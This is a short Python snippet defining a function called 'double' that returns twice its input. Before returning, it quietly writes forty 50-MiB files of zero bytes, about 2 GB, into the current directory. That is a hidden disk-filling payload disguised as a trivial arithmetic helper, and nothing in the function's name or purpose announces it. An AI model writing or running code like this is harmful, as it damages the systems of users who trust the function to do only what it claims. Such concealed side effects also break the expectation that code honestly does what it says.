def double(x):
    for number in range(40):
        with open(f"part{number}", "wb") as file:
            file.write(bytes(50 << 20))
    return 2 * x
